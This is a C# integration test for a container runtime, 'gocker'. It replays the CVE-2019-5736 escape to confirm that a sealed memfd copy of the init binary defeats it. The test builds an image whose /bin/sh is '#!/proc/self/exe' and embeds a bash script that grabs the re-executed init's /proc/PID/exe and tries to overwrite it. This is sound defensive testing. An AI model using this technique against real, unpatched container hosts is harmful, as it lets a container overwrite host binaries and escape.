using System.Diagnostics;
using System.Formats.Tar;
using System.Security.Cryptography;
using Xunit.Abstractions;

namespace Gocker.Tests.Integration;

/// <summary>
/// The CVE-2019-5736 escape, end to end, against a real daemon: a glibc image whose /bin/sh is
/// `#!/proc/self/exe`, so that `gocker exec victim sh` makes the exec's gocker-init run again inside
/// the container (dumpable: execve reset it); the container's attacker opens that process's
/// /proc/PID/exe, keeps it on fd 3, and tries to write the binary through /proc/self/fd/3 until
/// after the daemon has stopped (while zygotes run it the kernel says ETXTBSY; then nothing did).
/// The daemon runs a private copy of gocker-init (gocker.init-path) so that the suite's binary is
/// never at risk; the copy must come out unchanged, every write refused (EPERM: the daemon executes
/// a sealed memfd copy, SealedBinary), and what the attacker got hold of must be that memfd.
/// </summary>
[Trait("Needs", "root")]
public sealed class InitEscapeTests : IDisposable
{
    readonly ITestOutputHelper _output;
    readonly string _dir = Directory.CreateTempSubdirectory("gocker-escape-").FullName;
    readonly string _copy;
    readonly LifecycleDaemon _d;

    public InitEscapeTests(ITestOutputHelper output)
    {
        _output = output;
        GockerBinaries.Require();
        _copy = Path.Combine(_dir, "gocker-init");
        File.Copy(GockerBinaries.Init, _copy);
        File.SetUnixFileMode(_copy, (UnixFileMode)0x1ed);
        _d = new LifecycleDaemon(configHocon: $"gocker.init-path = \"{_copy}\"\n");
    }

    public void Dispose()
    {
        _d.Dispose();
        try { Directory.Delete(_dir, true); } catch (IOException) { }
    }

    static string Sha256(string path) => Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(path)));

    static void WaitFor(Func<bool> cond, string what, int seconds = 60)
    {
        for (var deadline = DateTime.UtcNow.AddSeconds(seconds); !cond();)
        {
            if (DateTime.UtcNow > deadline) throw new TimeoutException(what);
            Thread.Sleep(20);
        }
    }

    static string? Read(string path)
    {
        try { return File.ReadAllText(path); }
        catch (IOException) { return null; }
        catch (UnauthorizedAccessException) { return null; }
    }

    /// <summary>This daemon's keeper, by its command line (0: none runs).</summary>
    int Keeper()
    {
        var want = $"--keeper\0{Path.Combine(_d.ExecRoot, "keeper.sock")}\0";
        foreach (var dir in Directory.GetDirectories("/proc"))
        {
            if (!int.TryParse(Path.GetFileName(dir), out var pid)) continue;
            if (Read(Path.Combine(dir, "cmdline")) is { } cmd && cmd.Contains(want)) return pid;
        }
        return 0;
    }

    /// <summary>The daemon's zygotes: its children whose command line is `gocker-init --zygote`.</summary>
    static List<int> Zygotes(int daemon)
    {
        var list = new List<int>();
        foreach (var dir in Directory.GetDirectories("/proc"))
        {
            if (!int.TryParse(Path.GetFileName(dir), out var pid)) continue;
            var stat = Read(Path.Combine(dir, "stat"));
            if (stat is null || stat[(stat.LastIndexOf(')') + 2)..].Split(' ') is not [_, var ppid, ..] || ppid != daemon.ToString()) continue;
            if (Read(Path.Combine(dir, "cmdline"))?.Split('\0') is [_, "--zygote", ..]) list.Add(pid);
        }
        return list;
    }

    // Waits for a process that runs /proc/self/exe (the re-exec'd gocker-init), keeps its
    // executable open on fd 3, then tries to write through it: in place (O_RDWR) and truncating
    // (O_TRUNC, as the published exploit did), recording each outcome. (No redirection inside
    // $(...): bash 5.2 applies `1<>` there to fd 0.)
    const string Attacker = """
        #!/bin/bash
        bb=/bin/busybox
        exec >>/tmp/record
        echo "READY $$"
        while :; do
          for d in /proc/[1-9]*; do
            [[ ${d#/proc/} == "$$" ]] && continue
            a0=
            { read -r -d '' a0 < "$d/cmdline"; } 2>/dev/null
            [[ $a0 == /proc/self/exe ]] || continue
            if { exec 3< "$d/exe"; } 2>/dev/null; then
              echo "GOT ${d#/proc/} $($bb readlink /proc/self/fd/3)"
              break 2
            fi
          done
        done
        n=0
        while (( n < 20000 )); do
          n=$((n + 1))
          if printf pwned 2>/tmp/err 1<>/proc/self/fd/3; then echo "WROTE $n in-place"; exit 0; fi
          read -r err < /tmp/err; echo "FAIL $n in-place: ${err##*: }"
          if printf pwned 2>/tmp/err >/proc/self/fd/3; then echo "WROTE $n truncating"; exit 0; fi
          read -r err < /tmp/err; echo "FAIL $n truncating: ${err##*: }"
          $bb sleep 0.02
        done
        """;

    /// <summary>An image that needs the host's dynamic loader and glibc (bash and its libraries, as
    /// ldd lists them), a static busybox for tools, /bin/sh = `#!/proc/self/exe`, and /attack.sh.</summary>
    string BuildImageTar()
    {
        var tar = Path.Combine(_dir, "evil.tar");
        var files = new SortedDictionary<string, string>(StringComparer.Ordinal) // image path -> host file
        {
            ["bin/bash"] = "/usr/bin/bash",
            ["bin/busybox"] = "/bin/busybox",
        };
        var ldd = Process.Start(new ProcessStartInfo("ldd", ["/usr/bin/bash"]) { RedirectStandardOutput = true })!;
        var lddOut = ldd.StandardOutput.ReadToEnd();
        ldd.WaitForExit();
        Assert.True(ldd.ExitCode == 0, "ldd /usr/bin/bash: " + lddOut);
        foreach (var line in lddOut.Split('\n'))
        {
            var part = line.Contains("=>") ? line.Split("=>")[1] : line;
            var lib = part.Trim().Split(' ')[0];
            if (lib.StartsWith('/')) files[lib.TrimStart('/')] = lib;
        }
        Assert.Contains("lib64/ld-linux-x86-64.so.2", files.Keys);
        var dirs = new SortedSet<string>(StringComparer.Ordinal) { "etc", "proc", "sys", "dev", "tmp", "root" };
        foreach (var f in files.Keys)
            for (var d = Path.GetDirectoryName(f); !string.IsNullOrEmpty(d); d = Path.GetDirectoryName(d)) dirs.Add(d);

        using var fs = File.Create(tar);
        using var w = new TarWriter(fs);
        foreach (var d in dirs) w.WriteEntry(new PaxTarEntry(TarEntryType.Directory, d) { Mode = (UnixFileMode)0x1ed });
        foreach (var (name, host) in files)
        {
            using var data = File.OpenRead(host);
            w.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { Mode = (UnixFileMode)0x1ed, DataStream = data });
        }
        void Text(string name, string text, int mode)
        {
            using var data = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(text));
            w.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { Mode = (UnixFileMode)mode, DataStream = data });
        }
        Text("bin/sh", "#!/proc/self/exe\n", 0x1ed);
        Text("attack.sh", Attacker.Replace("\r", "") + "\n", 0x1ed);
        Text("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", 0x1a4);
        return tar;
    }

    [Fact]
    public void A_container_cannot_overwrite_gocker_init_through_a_reexecuted_exec_init()
    {
        var sha = Sha256(_copy);
        Assert.Equal(Sha256(GockerBinaries.Init), sha);
        WaitFor(() => _d.Log.Contains(_copy), "the daemon names the configured gocker-init");

        var image = "evil" + Guid.NewGuid().ToString("N")[..6];
        var imported = _d.Gocker("image", "import", BuildImageTar(), image);
        Assert.True(imported.ExitCode == 0, imported.ToString());
        var id = _d.Ok("run", "-d", "--name", "victim", "--network", "none", image,
            "/bin/bash", "-c", "/attack.sh & exec /bin/busybox sleep 1000000");
        // The record is a file in the container, read through its init's root: its stdout is a pipe
        // to the daemon, and what it writes while no daemon runs waits in the pipe.
        var initPid = System.Text.Json.Nodes.JsonNode.Parse(_d.Ok("inspect", id))!.AsArray()[0]!["State"]!["Pid"]!.GetValue<int>();
        var log = $"/proc/{initPid}/root/tmp/record";
        string Record() => Read(log) ?? "";
        WaitFor(() => Record().Contains("READY"), "the attacker runs:\n" + Record());

        // The admin's `exec sh`. The re-exec'd init lives a few ms before it fails (its "spec" is
        // /bin/sh); the attacker may miss one: the admin tries again.
        var execs = new List<CliResult>();
        for (int i = 0; i < 20 && !Record().Contains("GOT "); i++)
        {
            execs.Add(_d.Gocker("exec", "victim", "sh"));
            for (var until = DateTime.UtcNow.AddSeconds(2); !Record().Contains("GOT ") && DateTime.UtcNow < until;) Thread.Sleep(20);
        }
        var got = Record().Split('\n').FirstOrDefault(l => l.StartsWith("GOT "));
        Assert.True(got is not null, $"the attacker never got hold of a re-exec'd init (otherwise this proves nothing):\n{Record()}\n--- execs\n{string.Join('\n', execs)}");

        // The daemon stops; its zygotes (which run the binary: ETXTBSY) exit with it; the
        // container and its attacker go on.
        var zygotes = Zygotes(_d.Pid);
        Assert.NotEmpty(zygotes);
        _d.Stop();
        WaitFor(() => zygotes.All(z => !Directory.Exists($"/proc/{z}")), "the zygotes exited with the daemon");
        // The keeper (it holds the container's output pipes) outlives the daemon and runs the same
        // memfd (ETXTBSY too): it goes as well, so that only the seals stand in the way.
        var keeper = Keeper();
        Assert.True(keeper > 0, "a keeper holds the victim's output pipes");
        Assert.Equal(0, Tmds.Linux.LibC.kill(keeper, 9));
        WaitFor(() => ProcState.Gone(keeper), "the keeper killed");
        int Attempts() => Record().Split('\n').Count(l => l.StartsWith("FAIL ") || l.StartsWith("WROTE "));
        var atStop = Attempts();
        WaitFor(() => Attempts() >= atStop + 12 || Record().Contains("WROTE"), "the attacker goes on trying:\n" + Record());

        var record = Record();
        _output.WriteLine($"{execs.Count} exec(s) until the attacker got hold of the re-exec'd init\n--- the attacker's record\n{record}");
        Assert.True(sha == Sha256(_copy), "gocker-init was overwritten:\n" + record);
        Assert.False(record.Contains("WROTE"), record);
        // Attempts made once nothing ran the binary any more (the first two may have started before):
        // refused by the seals, not by ETXTBSY.
        var after = record.Split('\n').Where(l => l.StartsWith("FAIL ")).Skip(atStop + 2).ToList();
        Assert.True(after.Count >= 10, record);
        Assert.All(after, l => Assert.EndsWith("Operation not permitted", l));
        Assert.Contains(record.Split('\n'), l => l.StartsWith("FAIL ") && l.Contains("truncating"));
        Assert.Contains(record.Split('\n'), l => l.StartsWith("FAIL ") && l.Contains("in-place"));
        // What it opened is the daemon's sealed memfd copy, not the host's file.
        Assert.Matches(@"^GOT \d+ /memfd:gocker-init \(deleted\)$", got);

        // Clean up through a new daemon on the same roots (the container outlived the old one).
        _d.Start();
        _d.Ok("rm", "-f", "victim");
        _d.Ok("rmi", image);
        _d.AssertNoLeaks();
    }
}
